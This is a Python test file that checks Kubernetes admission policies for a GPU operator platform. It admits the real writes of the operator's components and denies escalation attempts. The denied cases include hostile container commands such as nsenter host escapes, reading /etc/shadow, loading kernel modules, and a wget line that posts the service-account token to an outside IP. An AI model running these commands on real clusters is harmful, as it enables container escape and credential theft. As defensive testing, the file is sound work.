"""The admission policies, evaluated as CEL against admission requests shaped as the API server
sends them: each operand's real writes (from its contract, components/kubernetes/operands/<module>/contract.yaml) are
admitted, and what a compromised operand could try is denied. The policies are the ones the prod
stack records, so what is tested is what is deployed."""

from __future__ import annotations

import copy

import kubernetes_validate
import pytest

from gpu_platform.interface import admission
from tests.components.kubernetes.admission_cel import evaluate

POLICY = "kubernetes:admissionregistration.k8s.io/v1:ValidatingAdmissionPolicy"
BINDING = "kubernetes:admissionregistration.k8s.io/v1:ValidatingAdmissionPolicyBinding"
NS = "gpu-operator"
VALIDATOR_IMAGE = "nvcr.io/nvidia/gpu-operator:v25.10.1"  # the prod stack's release (stacks/Pulumi.prod.yaml)
PRIVILEGE = "gpu-platform-gpu-privilege"
NODE = "ip-10-0-1-17.us-west-2.compute.internal"
OTHER_NODE = "ip-10-0-2-9.us-west-2.compute.internal"


def _user(account: str, node: str | None = NODE) -> dict:
    user = {
        "username": f"system:serviceaccount:{NS}:{account}",
        "groups": ["system:serviceaccounts", f"system:serviceaccounts:{NS}"],
        "extra": {
            "authentication.kubernetes.io/pod-name": [f"{account}-x1"],
            "authentication.kubernetes.io/pod-uid": ["3d1c"],
        },
    }
    if node:
        user["extra"]["authentication.kubernetes.io/node-name"] = [node]
    return user


@pytest.fixture(scope="module")
def policies(prod) -> dict[str, dict]:
    return {p.inputs["metadata"]["name"]: p.inputs["spec"] for p in prod.of_type(POLICY)}


def test_each_policy_has_a_deny_binding_and_is_valid_kubernetes_1_30(prod):
    policies = {p.inputs["metadata"]["name"]: p.inputs for p in prod.of_type(POLICY)}
    bindings = {b.inputs["spec"]["policyName"]: b.inputs for b in prod.of_type(BINDING)}
    assert set(policies) == {
        "gpu-platform-validator-pods",
        "gpu-platform-mig-manager-nodes",
        "gpu-platform-nfd-master-nodes",
        "gpu-platform-gpu-access",
        "gpu-platform-gpu-privilege",
    }
    assert set(bindings) == set(policies)
    for name, binding in bindings.items():
        assert binding["spec"]["validationActions"] == ["Deny"], name  # prod's cluster is created by the stack
    for obj in [*policies.values(), *bindings.values()]:
        doc = {k: v for k, v in obj.items() if k != "metadata"} | {"metadata": {"name": obj["metadata"]["name"]}}
        # 1.30: the first minor that serves the v1 API (strict: no field the schema does not know).
        kubernetes_validate.validate(doc, "1.30.0", strict=True)
        kubernetes_validate.validate(doc, "1.33.0", strict=True)


# ---------------------------------------------------------------- validator
# What the API server's ServiceAccount admission plugin adds to every pod before validating admission
# sees it (kubernetes plugin/pkg/admission/serviceaccount/admission.go: the kube-api-access volume,
# mounted read-only at /var/run/secrets/kubernetes.io/serviceaccount in each container).
TOKEN_VOLUME = {
    "name": "kube-api-access-7xk2p",
    "projected": {
        "defaultMode": 420,
        "sources": [
            {"serviceAccountToken": {"expirationSeconds": 3607, "path": "token"}},
            {"configMap": {"name": "kube-root-ca.crt", "items": [{"key": "ca.crt", "path": "ca.crt"}]}},
            {
                "downwardAPI": {
                    "items": [
                        {"path": "namespace", "fieldRef": {"apiVersion": "v1", "fieldPath": "metadata.namespace"}}
                    ]
                }
            },
        ],
    },
}
TOKEN_MOUNT = {
    "name": "kube-api-access-7xk2p",
    "mountPath": "/var/run/secrets/kubernetes.io/serviceaccount",
    "readOnly": True,
}


def _with_token(pod: dict) -> dict:
    pod["spec"]["volumes"] = [copy.deepcopy(TOKEN_VOLUME)]
    for c in pod["spec"]["initContainers"] + pod["spec"]["containers"]:
        c["volumeMounts"] = [dict(TOKEN_MOUNT)]
    return pod


def _cuda_pod(node: str = NODE) -> dict:
    """The CUDA workload pod as the validator creates it: NVIDIA/gpu-operator v26.7.0
    validator/manifests/cuda-workload-validation.yaml, with what cmd/nvidia-validator/main.go:1564-1604
    fills in (namespace, image, runtime class, node name)."""
    return _with_token(
        {
            "metadata": {
                "generateName": "nvidia-cuda-validator-",
                "namespace": NS,
                "labels": {"app": "nvidia-cuda-validator"},
                "annotations": {"nvidia.cdi.k8s.io/container.cuda-validation": "management.nvidia.com/gpu=all"},
            },
            "spec": {
                "nodeName": node,
                "runtimeClassName": "nvidia",
                "restartPolicy": "OnFailure",
                "serviceAccountName": "nvidia-operator-validator",
                "tolerations": [{"key": "nvidia.com/gpu", "operator": "Exists", "effect": "NoSchedule"}],
                "initContainers": [
                    {
                        "name": "cuda-validation",
                        "image": VALIDATOR_IMAGE,
                        "imagePullPolicy": "IfNotPresent",
                        "command": ["sh", "-c"],
                        "args": ["vectorAdd"],
                        "env": [{"name": "NVIDIA_VISIBLE_DEVICES", "value": "all"}],
                        "securityContext": {"privileged": True},
                    }
                ],
                "containers": [
                    {
                        "name": "nvidia-cuda-validator",
                        "image": VALIDATOR_IMAGE,
                        "imagePullPolicy": "IfNotPresent",
                        "command": ["sh", "-c"],
                        "args": ["echo cuda workload validation is successful"],
                        "securityContext": {"privileged": True, "readOnlyRootFilesystem": True},
                    }
                ],
            },
        }
    )


def _plugin_pod(node: str = NODE) -> dict:
    """The device-plugin workload pod (validator/manifests/plugin-workload-validation.yaml at v26.7.0)
    with a GPU request (main.go:1342-1352)."""
    gpu = {"nvidia.com/gpu": "1"}
    return _with_token(
        {
            "metadata": {"generateName": "nvidia-device-plugin-validator-", "namespace": NS},
            "spec": {
                "nodeName": node,
                "runtimeClassName": "nvidia",
                "serviceAccountName": "nvidia-operator-validator",
                "initContainers": [
                    {
                        "name": "plugin-validation",
                        "image": VALIDATOR_IMAGE,
                        "command": ["sh", "-c"],
                        "args": ["vectorAdd"],
                        "resources": {"limits": gpu, "requests": gpu},
                        "securityContext": {"allowPrivilegeEscalation": False},
                    }
                ],
                "containers": [
                    {
                        "name": "nvidia-device-plugin-validator",
                        "image": VALIDATOR_IMAGE,
                        "command": ["sh", "-c"],
                        "args": ["echo device-plugin workload validation is successful"],
                    }
                ],
            },
        }
    )


def _create(pod: dict, user: dict) -> dict:
    return {
        "operation": "CREATE",
        "resource": "pods",
        "namespace": NS,
        "object": pod,
        "oldObject": None,
        "userInfo": user,
    }


def test_the_validators_own_workload_pods_are_admitted(policies):
    for pod in (_cuda_pod(), _plugin_pod()):
        assert evaluate(policies["gpu-platform-validator-pods"], _create(pod, _user("nvidia-operator-validator"))) == []


def _edited(change) -> dict:
    pod = _cuda_pod()
    change(pod["spec"])
    return pod


@pytest.mark.parametrize(
    "why, pod, user",
    [
        ("on another node", _cuda_pod(OTHER_NODE), _user("nvidia-operator-validator")),
        ("token without a node", _cuda_pod(), _user("nvidia-operator-validator", node=None)),
        ("another image", _edited(lambda s: s["containers"][0].update(image="docker.io/library/busybox:1.36")), None),
        ("hostPath", _edited(lambda s: s.update(volumes=[{"name": "root", "hostPath": {"path": "/"}}])), None),
        ("hostPID", _edited(lambda s: s.update(hostPID=True)), None),
        ("hostNetwork", _edited(lambda s: s.update(hostNetwork=True)), None),
        (
            "capability",
            _edited(lambda s: s["containers"][0]["securityContext"].update(capabilities={"add": ["SYS_ADMIN"]})),
            None,
        ),
        ("privileged shell", _edited(lambda s: s["containers"][0].update(args=["nsenter -t 1 -m sh"])), None),
        (
            "privileged with env",
            _edited(lambda s: s["containers"][0].update(env=[{"name": "LD_PRELOAD", "value": "/x.so"}])),
            None,
        ),
        # NFD master's token may label any node: a pod run as it would hand that token to the validator
        (
            "another service account",
            _edited(
                lambda s: s.update(
                    serviceAccountName="nvidia-node-feature-discovery-master",
                    serviceAccount="nvidia-node-feature-discovery-master",
                )
            ),
            None,
        ),
        ("the namespace's default account", _edited(lambda s: s.update(serviceAccountName="default")), None),
        # Weakenings of isolation upstream's pods never ask for.
        (
            "host port",
            _edited(lambda s: s["containers"][0].update(ports=[{"containerPort": 22, "hostPort": 22}])),
            None,
        ),
        ("Unmasked /proc", _edited(lambda s: s["containers"][0]["securityContext"].update(procMount="Unmasked")), None),
        (
            "Unconfined seccomp on a container",
            _edited(lambda s: s["containers"][0]["securityContext"].update(seccompProfile={"type": "Unconfined"})),
            None,
        ),
        (
            "Unconfined seccomp on the pod",
            _edited(lambda s: s.update(securityContext={"seccompProfile": {"type": "Unconfined"}})),
            None,
        ),
        (
            "Unconfined AppArmor on the pod",
            _edited(lambda s: s.update(securityContext={"appArmorProfile": {"type": "Unconfined"}})),
            None,
        ),
        (
            "a sysctl",
            _edited(lambda s: s.update(securityContext={"sysctls": [{"name": "net.ipv4.ip_forward", "value": "1"}]})),
            None,
        ),
        ("another runtime class", _edited(lambda s: s.update(runtimeClassName="runc")), None),
        ("a system priority", _edited(lambda s: s.update(priorityClassName="system-node-critical")), None),
        (
            "a resource claim",
            _edited(lambda s: s.update(resourceClaims=[{"name": "gpu", "resourceClaimName": "all-gpus"}])),
            None,
        ),
        (
            "postStart hook",
            _edited(
                lambda s: s["initContainers"][0].update(
                    lifecycle={
                        "postStart": {
                            "exec": {"command": ["nsenter", "-t", "1", "-m", "-u", "-n", "-i", "sh", "-c", "id"]}
                        }
                    }
                )
            ),
            None,
        ),
        (
            "preStop hook",
            _edited(
                lambda s: s["containers"][0].update(
                    lifecycle={"preStop": {"exec": {"command": ["sh", "-c", "chroot /host sh"]}}}
                )
            ),
            None,
        ),
        (
            "exec liveness probe",
            _edited(
                lambda s: s["containers"][0].update(
                    livenessProbe={
                        "exec": {"command": ["sh", "-c", "nsenter -t 1 -m sh -c 'cat /etc/shadow'"]},
                        "periodSeconds": 10,
                    }
                )
            ),
            None,
        ),
        (
            "exec readiness probe",
            _edited(
                lambda s: s["containers"][0].update(
                    readinessProbe={"exec": {"command": ["sh", "-c", "mount /dev/nvme0n1p1 /mnt"]}}
                )
            ),
            None,
        ),
        (
            "exec startup probe",
            _edited(
                lambda s: s["initContainers"][0].update(
                    startupProbe={"exec": {"command": ["sh", "-c", "insmod /tmp/x.ko"]}}
                )
            ),
            None,
        ),
        # an unprivileged init container writes a fake vectorAdd into an emptyDir that the privileged
        # container mounts over a PATH directory
        (
            "fake vectorAdd on PATH",
            _edited(
                lambda s: (
                    s["volumes"].append({"name": "bin", "emptyDir": {}}),
                    s["initContainers"].insert(
                        0,
                        {
                            "name": "stage",
                            "image": VALIDATOR_IMAGE,
                            "command": ["sh", "-c"],
                            "args": [
                                "printf '#!/bin/sh\nnsenter -t 1 -m sh\n' > /bin-x/vectorAdd; chmod +x /bin-x/vectorAdd"
                            ],
                            "volumeMounts": [{"name": "bin", "mountPath": "/bin-x"}, dict(TOKEN_MOUNT)],
                        },
                    ),
                    s["initContainers"][1]["volumeMounts"].append({"name": "bin", "mountPath": "/usr/local/bin"}),
                )
            ),
            None,
        ),
        (
            "privileged mount of an emptyDir",
            _edited(
                lambda s: (
                    s["volumes"].append({"name": "bin", "emptyDir": {}}),
                    s["initContainers"][0]["volumeMounts"].append({"name": "bin", "mountPath": "/usr/local/bin"}),
                )
            ),
            None,
        ),
        (
            "a writable token mount",
            _edited(lambda s: s["initContainers"][0]["volumeMounts"][0].update(readOnly=False)),
            None,
        ),
        ("workingDir with a planted binary", _edited(lambda s: s["initContainers"][0].update(workingDir="/tmp")), None),
        (
            "envFrom",
            _edited(lambda s: s["initContainers"][0].update(envFrom=[{"configMapRef": {"name": "attacker"}}])),
            None,
        ),
        (
            "env from a secret",
            _edited(
                lambda s: s["initContainers"][0].update(
                    env=[
                        {
                            "name": "NVIDIA_VISIBLE_DEVICES",
                            "valueFrom": {"secretKeyRef": {"name": "aws-creds", "key": "secret"}},
                        }
                    ]
                )
            ),
            None,
        ),
        (
            "an unprivileged container with any command",
            _edited(
                lambda s: s["containers"].append(
                    {
                        "name": "exfil",
                        "image": VALIDATOR_IMAGE,
                        "command": ["sh", "-c"],
                        "args": [
                            "wget -qO- --post-file=/var/run/secrets/kubernetes.io/serviceaccount/token http://203.0.113.7/"
                        ],
                        "volumeMounts": [dict(TOKEN_MOUNT)],
                    }
                )
            ),
            None,
        ),
        (
            "a secret volume",
            _edited(lambda s: s["volumes"].append({"name": "creds", "secret": {"secretName": "gpu-operator-token"}})),
            None,
        ),
        (
            "a projected secret",
            _edited(
                lambda s: s["volumes"][0]["projected"]["sources"].append({"secret": {"name": "gpu-operator-token"}})
            ),
            None,
        ),
        ("a shared process namespace", _edited(lambda s: s.update(shareProcessNamespace=True)), None),
    ],
)
def test_a_validator_pod_beyond_its_own_is_denied(policies, why, pod, user):
    failed = evaluate(policies["gpu-platform-validator-pods"], _create(pod, user or _user("nvidia-operator-validator")))
    assert failed, why


def test_a_pod_given_the_clusters_default_priority_class_is_admitted(policies):
    # The Priority admission plugin names the cluster's globalDefault class in a pod that names none,
    # before validating admission runs: the validator's CUDA pod arrives with it.
    pod = _edited(lambda s: s.update(priorityClassName="cluster-default", priority=1000))
    assert evaluate(policies["gpu-platform-validator-pods"], _create(pod, _user("nvidia-operator-validator"))) == []


def test_an_ephemeral_container_added_by_the_validator_is_denied(policies):
    pod = _edited(lambda s: s.update(ephemeralContainers=[{"name": "debug", "image": "docker.io/library/alpine:3"}]))
    request = {
        **_create(pod, _user("nvidia-operator-validator")),
        "operation": "UPDATE",
        "subResource": "ephemeralcontainers",
        "oldObject": _cuda_pod(),
    }
    assert evaluate(policies["gpu-platform-validator-pods"], request)


def test_the_validator_swapping_an_image_of_its_pod_after_admission_is_denied(policies):
    # A pod update may change a container's image (the kubelet restarts it with the new one): the
    # privileged CUDA container would run another image's `sh` and `vectorAdd`.
    old = _cuda_pod()
    new = copy.deepcopy(old)
    new["spec"]["initContainers"][0]["image"] = "docker.io/attacker/tools:1"
    request = {**_create(new, _user("nvidia-operator-validator")), "operation": "UPDATE", "oldObject": old}
    failed = evaluate(policies["gpu-platform-validator-pods"], request)
    assert failed and any("only the validator image" in m for m in failed), failed
    # The same update of the validator's own unchanged pod (e.g. a label) is admitted.
    relabelled = copy.deepcopy(old)
    relabelled["metadata"].setdefault("labels", {})["x"] = "y"
    assert (
        evaluate(
            policies["gpu-platform-validator-pods"],
            {**_create(relabelled, _user("nvidia-operator-validator")), "operation": "UPDATE", "oldObject": old},
        )
        == []
    )


def test_other_pod_updates_are_left_alone(policies):
    # a finalizer removed from a pod admitted before the policy existed (a plain pods UPDATE)
    old = _workload(env=[{"name": "NVIDIA_VISIBLE_DEVICES", "value": "all"}])
    old["metadata"]["finalizers"] = ["example.com/cleanup"]
    new = copy.deepcopy(old)
    del new["metadata"]["finalizers"]
    request = {**_pod_request(new), "operation": "UPDATE", "oldObject": old}
    assert evaluate(policies["gpu-platform-gpu-access"], request) is None


def test_the_validator_policy_leaves_other_users_alone(policies):
    pod = _edited(lambda s: s.update(hostPID=True))
    assert evaluate(policies["gpu-platform-validator-pods"], _create(pod, _user("someone-else"))) is None


# ---------------------------------------------------------------- node writers
def _node(
    name: str = NODE, labels: dict | None = None, annotations: dict | None = None, taints=None, capacity=None
) -> dict:
    base = {
        "kubernetes.io/hostname": name,
        "node.kubernetes.io/instance-type": "p5.48xlarge",
        "nvidia.com/gpu.present": "true",
        "nvidia.com/mig.config": "all-1g.10gb",
        "nvidia.com/gpu.deploy.device-plugin": "true",
        "feature.node.kubernetes.io/pci-10de.present": "true",
    }
    return {
        "metadata": {
            "name": name,
            "labels": {**base, **(labels or {})},
            "annotations": {"node.alpha.kubernetes.io/ttl": "0", **(annotations or {})},
        },
        "spec": {
            "providerID": f"aws:///us-west-2a/i-0{abs(hash(name)) % 10**8}",
            "taints": [{"key": "nvidia.com/gpu", "value": "true", "effect": "NoSchedule"}]
            if taints is None
            else taints,
        },
        "status": {
            "capacity": {"cpu": "192", "nvidia.com/gpu": "8", **(capacity or {})},
            "allocatable": {"cpu": "191"},
        },
    }


def _with_metadata(node: dict, **fields) -> dict:
    node["metadata"].update(fields)
    return node


def _update(old: dict, new: dict, user: dict, sub: str = "") -> dict:
    return {
        "operation": "UPDATE",
        "resource": "nodes",
        "subResource": sub,
        "name": old["metadata"]["name"],
        "namespace": "",
        "object": new,
        "oldObject": old,
        "userInfo": user,
    }


def _drop_label(node: dict, key: str) -> dict:
    node = copy.deepcopy(node)
    del node["metadata"]["labels"][key]
    return node


MIG = "nvidia-mig-manager"
NFD = "nvidia-node-feature-discovery-master"


@pytest.mark.parametrize(
    "new",
    [
        # mm-mig-config-state-label: pending, then success (mig-parted v0.13.1 reconfigure.go:154-190)
        _node(labels={"nvidia.com/mig.config.state": "pending"}),
        # mm-pauses-operand-gates: gates paused for the change (reconfigure.go:363-376)
        _node(labels={"nvidia.com/gpu.deploy.device-plugin": "paused-for-mig-change"}),
    ],
)
def test_the_mig_managers_label_writes_on_its_node_are_admitted(policies, new):
    assert evaluate(policies["gpu-platform-mig-manager-nodes"], _update(_node(), new, _user(MIG))) == []


@pytest.mark.parametrize(
    "why, old, new",
    [
        ("another node", _node(OTHER_NODE), _node(OTHER_NODE, labels={"nvidia.com/mig.config.state": "pending"})),
        ("a foreign label", _node(), _node(labels={"node-role.kubernetes.io/system": ""})),
        ("a removed foreign label", _node(), _drop_label(_node(), "kubernetes.io/hostname")),
        ("a taint removed", _node(), _node(taints=[{"key": "example.com/x", "effect": "NoSchedule"}])),
        ("an annotation", _node(), _node(annotations={"nvidia.com/x": "y"})),
        (
            "an owner reference",
            _node(),
            _with_metadata(
                _node(), ownerReferences=[{"apiVersion": "v1", "kind": "ConfigMap", "name": "gone", "uid": "0000"}]
            ),
        ),
        ("a finalizer", _node(), _with_metadata(_node(), finalizers=["example.com/keep"])),
    ],
)
def test_mig_manager_writes_beyond_its_labels_are_denied(policies, why, old, new):
    assert evaluate(policies["gpu-platform-mig-manager-nodes"], _update(old, new, _user(MIG))), why


@pytest.mark.parametrize(
    "sub, old, new",
    [
        # nfd-master-node-updates: feature labels and their tracking annotation on any node (the master is a Deployment)
        (
            "",
            _node(OTHER_NODE),
            _node(
                OTHER_NODE,
                labels={
                    "feature.node.kubernetes.io/cpu-cpuid.AVX512F": "true",
                    "cpu.feature.node.kubernetes.io/x": "1",
                    "profile.node.kubernetes.io/gpu": "true",
                },
                annotations={"nfd.node.kubernetes.io/feature-labels": "cpu-cpuid.AVX512F"},
            ),
        ),
        # GFD's labels reach the node through NFD (nfd-master-label-namespaces)
        ("", _node(), _node(labels={"nvidia.com/gpu.product": "NVIDIA-H100-80GB-HBM3", "nvidia.com/gpu.count": "8"})),
        # stale labels removed, the master.version annotation removed (v0.16+)
        (
            "",
            _node(annotations={"nfd.node.kubernetes.io/master.version": "v0.15.4"}),
            _drop_label(_node(), "feature.node.kubernetes.io/pci-10de.present"),
        ),
        # extended resources through nodes/status
        ("status", _node(), _node(capacity={"feature.node.kubernetes.io/vf": "4"})),
    ],
)
def test_nfd_masters_writes_are_admitted_on_every_node(policies, sub, old, new):
    assert (
        evaluate(policies["gpu-platform-nfd-master-nodes"], _update(old, new, _user(NFD, node=OTHER_NODE), sub)) == []
    )


@pytest.mark.parametrize(
    "why, sub, new",
    [
        ("a gating label on a system node", "", _node(labels={"nvidia.com/gpu.deploy.container-toolkit": "true"})),
        ("gpu.present", "", _drop_label(_node(), "nvidia.com/gpu.present")),
        ("mig.config", "", _node(labels={"nvidia.com/mig.config": "all-disabled"})),
        ("a kubernetes.io label", "", _node(labels={"node-role.kubernetes.io/gpu": ""})),
        ("a taint", "", _node(taints=[])),
        (
            "a foreign annotation",
            "",
            _node(annotations={"cluster-autoscaler.kubernetes.io/scale-down-disabled": "true"}),
        ),
        ("fake GPUs", "status", _node(capacity={"nvidia.com/gpu": "64"})),
        (
            "an owner reference",
            "",
            _with_metadata(
                _node(), ownerReferences=[{"apiVersion": "v1", "kind": "ConfigMap", "name": "gone", "uid": "0000"}]
            ),
        ),
    ],
)
def test_nfd_master_writes_beyond_its_keys_are_denied(policies, why, sub, new):
    assert evaluate(policies["gpu-platform-nfd-master-nodes"], _update(_node(), new, _user(NFD), sub)), why


# ---------------------------------------------------------------- GPU access outside the operator namespace
def _workload(namespace: str = "ml", **spec) -> dict:
    pod = {
        "metadata": {"name": "train-0", "namespace": namespace, "labels": {"app": "train"}},
        "spec": {"containers": [{"name": "train", "image": "nvcr.io/nvidia/pytorch:25.01-py3"}]},
    }
    for key, value in spec.items():
        if key in ("env", "resources"):
            pod["spec"]["containers"][0][key] = value
        elif key == "annotations":
            pod["metadata"]["annotations"] = value
        elif key == "labels":
            pod["metadata"]["labels"] = value
        else:
            pod["spec"][key] = value
    return pod


def _pod_request(pod: dict) -> dict:
    return {
        "operation": "CREATE",
        "resource": "pods",
        "namespace": pod["metadata"]["namespace"],
        "object": pod,
        "oldObject": None,
        "userInfo": {"username": "system:serviceaccount:kube-system:replicaset-controller"},
    }


GPU = {"limits": {"nvidia.com/gpu": "1"}}


@pytest.mark.parametrize(
    "pod",
    [
        _workload(runtimeClassName="nvidia", resources=GPU),
        _workload(
            runtimeClassName="nvidia",
            resources={"limits": {"nvidia.com/mig-1g.10gb": "1"}, "requests": {"nvidia.com/mig-1g.10gb": "1"}},
        ),
        _workload(resources=GPU),
        _workload(),
        _workload(env=[{"name": "NVIDIA_DRIVER_CAPABILITIES", "value": "compute,utility"}], resources=GPU),
        # no GPU (nvidia-container-toolkit v1.18.1 internal/config/image/devices.go:36-47): e.g. a CPU
        # pod built FROM a CUDA image that sets NVIDIA_VISIBLE_DEVICES=all
        _workload(env=[{"name": "NVIDIA_VISIBLE_DEVICES", "value": "void"}]),
        _workload(env=[{"name": "NVIDIA_VISIBLE_DEVICES", "value": "none"}]),
        _workload(
            volumes=[{"name": "data", "emptyDir": {}}],
            containers=[
                {
                    "name": "train",
                    "image": "nvcr.io/nvidia/pytorch:25.01-py3",
                    "volumeMounts": [{"name": "data", "mountPath": "/var/run/data"}],
                }
            ],
        ),
    ],
)
def test_gpu_requests_through_the_device_plugin_are_admitted(policies, pod):
    # [], not None: the policy applies to these pods and every validation holds.
    assert evaluate(policies["gpu-platform-gpu-access"], _pod_request(pod)) == []


def test_the_node_monitoring_agents_dcgm_server_is_exempt(policies):
    # aws/eks-node-monitoring-agent v1.7.0 templates/dcgm-daemonset.yaml:57-63 sets NVIDIA_VISIBLE_DEVICES=all:
    # None, the policy does not apply to it at all.
    pod = _workload(
        "kube-system",
        labels={"k8s-app": "dcgm-server", "version": "v1"},
        env=[{"name": "NVIDIA_VISIBLE_DEVICES", "value": "all"}],
    )
    assert evaluate(policies["gpu-platform-gpu-access"], _pod_request(pod)) is None


@pytest.mark.parametrize(
    "why, pod",
    [
        ("visible devices", _workload(env=[{"name": "NVIDIA_VISIBLE_DEVICES", "value": "all"}])),
        ("MIG config devices", _workload(env=[{"name": "NVIDIA_MIG_CONFIG_DEVICES", "value": "all"}])),
        ("IMEX channels", _workload(env=[{"name": "NVIDIA_IMEX_CHANNELS", "value": "0"}])),
        ("a CDI annotation", _workload(annotations={"cdi.k8s.io/gpu": "nvidia.com/gpu=all"})),
        (
            "the operator's CDI annotation prefix",
            _workload(annotations={"nvidia.cdi.k8s.io/container.train": "nvidia.com/gpu=all"}),
        ),
        ("nvidia runtime without a GPU", _workload(runtimeClassName="nvidia")),
        ("a device list after none", _workload(env=[{"name": "NVIDIA_VISIBLE_DEVICES", "value": "0,none"}])),
        (
            "void from a ConfigMap",
            _workload(
                env=[{"name": "NVIDIA_VISIBLE_DEVICES", "valueFrom": {"configMapKeyRef": {"name": "gpu", "key": "v"}}}]
            ),
        ),
        (
            "void, then all",
            _workload(
                env=[
                    {"name": "NVIDIA_VISIBLE_DEVICES", "value": "void"},
                    {"name": "NVIDIA_VISIBLE_DEVICES", "value": "all"},
                ]
            ),
        ),
        ("MIG config devices none", _workload(env=[{"name": "NVIDIA_MIG_CONFIG_DEVICES", "value": "none"}])),
        # accept-nvidia-visible-devices-as-volume-mounts: /dev/null mounted at <root>/<device> requests it
        # (nvidia-container-toolkit v1.18.1 internal/config/image/cuda_image.go:265-270, 359-372)
        (
            "a device volume mount",
            _workload(
                volumes=[{"name": "gpu-all", "hostPath": {"path": "/dev/null"}}],
                containers=[
                    {
                        "name": "train",
                        "image": "nvcr.io/nvidia/pytorch:25.01-py3",
                        "volumeMounts": [{"name": "gpu-all", "mountPath": "/var/run/nvidia-container-devices/all"}],
                    }
                ],
            ),
        ),
        (
            "a device volume mount spelt with //",
            _workload(
                volumes=[{"name": "gpu-0", "hostPath": {"path": "/dev/null"}}],
                containers=[
                    {
                        "name": "train",
                        "image": "nvcr.io/nvidia/pytorch:25.01-py3",
                        "volumeMounts": [{"name": "gpu-0", "mountPath": "/var/run//nvidia-container-devices/./0"}],
                    }
                ],
            ),
        ),
        (
            "a device volume mount in an init container",
            _workload(
                volumes=[{"name": "imex", "hostPath": {"path": "/dev/null"}}],
                initContainers=[
                    {
                        "name": "setup",
                        "image": "busybox:1.36",
                        "volumeMounts": [{"name": "imex", "mountPath": "/var/run/nvidia-container-devices/imex/0"}],
                    }
                ],
            ),
        ),
        (
            "the DCGM server's label in another namespace",
            _workload(labels={"k8s-app": "dcgm-server"}, env=[{"name": "NVIDIA_VISIBLE_DEVICES", "value": "all"}]),
        ),
    ],
)
def test_gpu_access_around_the_device_plugin_is_denied(policies, why, pod):
    assert evaluate(policies["gpu-platform-gpu-access"], _pod_request(pod)), why


def test_the_operator_namespace_is_outside_the_gpu_access_policy(policies):
    assert evaluate(policies["gpu-platform-gpu-access"], _pod_request(_cuda_pod())) is None


# ---------------------------------------------------------------- privileged containers on GPU nodes
# The toolkit treats a container with CAP_SYS_ADMIN in its bounding set as privileged and then takes the
# image's own NVIDIA_VISIBLE_DEVICES (CUDA images set `all`): nvidia-container-toolkit v1.18.1 and v1.20.0
# internal/config/image/privileged.go:35-47, cuda_image.go:279-282. The pools taint GPU nodes
# nvidia.com/gpu=present:NoSchedule (docs/what-gets-created.md, the launch template).
TOLERATES_GPU = [{"key": "nvidia.com/gpu", "operator": "Exists", "effect": "NoSchedule"}]
TOLERATES_ALL = [{"operator": "Exists"}]  # no key, Exists: every taint (k8s.io/api core/v1 toleration.go)
CUDA_IMAGE = "nvcr.io/nvidia/cuda:12.8.0-base-ubuntu24.04"


def _elevated(
    security: dict, namespace: str = "ml", tolerations=TOLERATES_GPU, where: str = "containers", **spec
) -> dict:
    """A pod whose container `miner` (in `where`) has the security context; its other container is plain."""
    pod = {
        "metadata": {"name": "miner-0", "namespace": namespace},
        "spec": {"containers": [{"name": "app", "image": CUDA_IMAGE}], **spec},
    }
    if tolerations is not None:
        pod["spec"]["tolerations"] = tolerations
    pod["spec"].setdefault(where, []).append({"name": "miner", "image": CUDA_IMAGE, "securityContext": security})
    return pod


def _sys_admin(spelling: str) -> dict:
    return {"capabilities": {"add": ["NET_ADMIN", spelling]}}


@pytest.mark.parametrize(
    "why, pod",
    [
        ("SYS_ADMIN", _elevated(_sys_admin("SYS_ADMIN"))),
        ("privileged", _elevated({"privileged": True})),
        # containerd upper-cases each added capability and prefixes CAP_ (containerd v2.2.4
        # internal/cri/opts/spec_opts.go:215-222); CRI-O takes the CAP_ spelling as well
        ("CAP_ prefixed", _elevated(_sys_admin("CAP_SYS_ADMIN"))),
        ("lower case", _elevated(_sys_admin("sys_admin"))),
        ("lower case, CAP_ prefixed", _elevated(_sys_admin("cap_sys_admin"))),
        ("mixed case", _elevated(_sys_admin("Sys_Admin"))),
        # ALL in any case is every capability (spec_opts.go:208-210, util/strings.go:27-34 EqualFold)
        ("ALL", _elevated(_sys_admin("ALL"))),
        ("all, lower case", _elevated(_sys_admin("all"))),
        ("tolerating every taint", _elevated({"privileged": True}, tolerations=TOLERATES_ALL)),
        (
            "tolerating the key with an empty effect",
            _elevated(_sys_admin("SYS_ADMIN"), tolerations=[{"key": "nvidia.com/gpu", "operator": "Exists"}]),
        ),
        (
            "tolerating the key's value",
            _elevated(
                {"privileged": True},
                tolerations=[
                    {"key": "nvidia.com/gpu", "operator": "Equal", "value": "present", "effect": "NoSchedule"}
                ],
            ),
        ),
        ("an init container", _elevated({"privileged": True}, where="initContainers")),
        # spec.nodeName bypasses the scheduler and with it NoSchedule taints (kubernetes.io/docs/concepts/
        # scheduling-eviction/taint-and-toleration/)
        ("a named node", _elevated({"privileged": True}, tolerations=None, nodeName=NODE)),
    ],
)
def test_a_privileged_or_sys_admin_container_that_can_run_on_a_gpu_node_is_denied_by_name(policies, why, pod):
    failed = evaluate(policies[PRIVILEGE], _pod_request(pod))
    assert any("container miner does" in m and "every GPU of the node" in m for m in failed), (why, failed)


@pytest.mark.parametrize(
    "why, pod",
    [
        ("no toleration", _elevated({"privileged": True}, tolerations=None)),
        ("no toleration, SYS_ADMIN", _elevated(_sys_admin("SYS_ADMIN"), tolerations=None)),
        # A NoExecute toleration does not tolerate the NoSchedule taint; another key is another taint.
        (
            "a NoExecute toleration of the key",
            _elevated(
                {"privileged": True},
                tolerations=[{"key": "nvidia.com/gpu", "operator": "Exists", "effect": "NoExecute"}],
            ),
        ),
        (
            "another key",
            _elevated({"privileged": True}, tolerations=[{"key": "example.com/infra", "operator": "Exists"}]),
        ),
        (
            "selecting GPU nodes without tolerating them",
            _elevated({"privileged": True}, tolerations=None, nodeSelector={"nvidia.com/gpu.present": "true"}),
        ),
        ("other capabilities on a GPU node", _elevated(_sys_admin("SYS_PTRACE"))),
        ("a capability dropped", _elevated({"capabilities": {"drop": ["SYS_ADMIN", "ALL"]}})),
        ("privileged false", _elevated({"privileged": False, "capabilities": {"add": ["NET_BIND_SERVICE"]}})),
    ],
)
def test_a_pod_that_cannot_run_on_a_gpu_node_or_is_not_privileged_is_admitted(policies, why, pod):
    assert evaluate(policies[PRIVILEGE], _pod_request(pod)) == [], why


def test_a_toleration_added_to_a_pending_privileged_pod_is_denied(policies):
    # Tolerations may be added to an existing pod (ValidatePodUpdate), and a pending one is then scheduled.
    old = _elevated({"privileged": True}, tolerations=None, nodeSelector={"nvidia.com/gpu.present": "true"})
    new = copy.deepcopy(old)
    new["spec"]["tolerations"] = TOLERATES_ALL
